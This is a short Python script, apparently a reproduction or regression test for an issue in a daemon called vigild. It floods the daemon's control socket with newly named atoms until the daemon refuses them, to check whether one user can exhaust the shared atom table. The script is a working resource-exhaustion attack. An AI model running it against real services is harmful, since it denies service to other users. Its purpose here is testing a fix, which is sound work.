#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A control-socket client that sends new atoms until vigild refuses them (issue: one
allowed user filled the daemon's atom table for everyone). Run as the attacking user.

Usage: atom_flood.py SOCKET PREFIX [LIMIT]
Prints one JSON line: {"sent": atoms accepted, "error": the refusal or null}.
"""

import json
import socket
import sys

PER_REQUEST = 2000  # under the 64 KiB line limit with a prefix of up to 12 bytes


def call(sock, reader, request):
    sock.sendall((json.dumps(request) + "\n").encode())
    return json.loads(reader.readline())


def main(argv):
    path, prefix = argv[1], argv[2]
    limit = int(argv[3]) if len(argv) > 3 else 2 * 1048576
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(60)
    sock.connect(path)
    reader = sock.makefile("r")
    sent, error = 0, None
    while sent < limit:
        names = ", ".join(":%s%07d" % (prefix, sent + k) for k in range(PER_REQUEST))
        r = call(sock, reader, {"v": 1, "cmd": "send", "args": {"target": "self", "term": "[%s]" % names}})
        if not r["ok"]:
            error = r["error"]
            break
        call(sock, reader, {"v": 1, "cmd": "flush"})
        sent += PER_REQUEST
    print(json.dumps({"sent": sent, "error": error}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
